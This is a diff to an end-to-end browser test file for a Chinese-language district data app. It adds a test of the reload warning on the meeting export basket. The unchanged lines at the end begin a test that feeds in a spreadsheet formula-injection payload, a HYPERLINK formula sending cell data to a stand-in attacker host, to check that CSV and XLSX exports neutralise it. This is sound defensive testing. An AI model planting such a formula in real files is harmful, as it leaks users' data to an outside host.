@@ -318,6 +318,32 @@ describe('exports for meetings, on the sample district', () => {
     expectClean(session as AppSession);
   });
 
+  it('while the meeting pack holds a chart, a reload asks first; once it is empty, nothing asks', async () => {
+    const page = await openRanking();
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.type());
+      void dialog.dismiss();
+    });
+    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();
+    const basket = page.locator('details.meeting-basket');
+    await basket.locator('summary').click();
+    expect(await basket.locator('.hint').innerText()).toContain('刷新或关闭页面会清空');
+
+    // Staying on the page keeps the chart in the pack.
+    await page.reload({ timeout: 3_000 }).catch(() => undefined);
+    expect(dialogs).toEqual(['beforeunload']);
+    expect(await basket.locator('summary').innerText()).toBe('汇报材料（1 张图）');
+    expect(await basket.locator('.basket-title').allInnerTexts()).toEqual([RANKING_TITLE]);
+
+    await basket.getByRole('button', { name: '清空' }).click();
+    expect(await basket.locator('summary').innerText()).toBe('汇报材料（0 张图）');
+    await page.reload();
+    await page.getByRole('img', { name: RANKING_TITLE }).waitFor({ timeout: 60_000 });
+    expect(dialogs).toEqual(['beforeunload']);
+    expectClean(session as AppSession);
+  });
+
   it('a hostile cell from an imported file comes out neutralised in CSV and XLSX, never as a formula', async () => {
     const hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
     const csv = [
